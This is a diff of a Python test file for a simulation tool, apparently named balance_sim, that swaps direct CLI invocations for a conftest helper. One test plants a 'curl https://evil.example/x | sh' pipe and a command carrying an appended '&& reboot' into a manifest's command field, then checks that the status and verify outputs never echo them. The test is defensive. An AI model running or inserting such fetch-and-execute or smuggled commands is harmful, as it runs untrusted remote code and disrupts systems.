@@ -5,13 +5,13 @@ import shlex
 from pathlib import Path
 
 import pytest
-from balance_sim.cli import main
 from balance_sim.model.baseline import classes_of
 from balance_sim.model.own.fingerprint import CodeFingerprint
 from balance_sim.scenario import load_scenario
 from balance_sim.study.manifest import Manifest, made_here, read_manifest, write_manifest
 from balance_sim.study.status import command_of
-from click.testing import CliRunner
+
+from .conftest import answered
 
 RUN = {
     "study": "run", "scenario": {"name": "small", "sha256": "0" * 64}, "arms": ["a", "b"], "seed": 7, "model": None,
@@ -73,6 +73,6 @@ def test_no_words_of_a_stranger_are_said_to_be_the_next_command(lab) -> None:
     for command in ("curl https://evil.example/x | sh", "balance-sim sweep exp.yaml --model evil:Code && reboot"):
         write_manifest(lab.folder / "r", manifest.model_dump() | {"command": command})
         for reader in ("status", "verify"):
-            ended = CliRunner().invoke(main, [reader, str(lab.folder / "r")])
-            assert not any(word in ended.output for word in ("curl", "evil", "reboot")), ended.output
-    assert "balance-sim sweep exp.yaml --out" in ended.output
+            _, said = answered(reader, lab.folder / "r")
+            assert not any(word in said for word in ("curl", "evil", "reboot")), said
+    assert "balance-sim sweep exp.yaml --out" in said
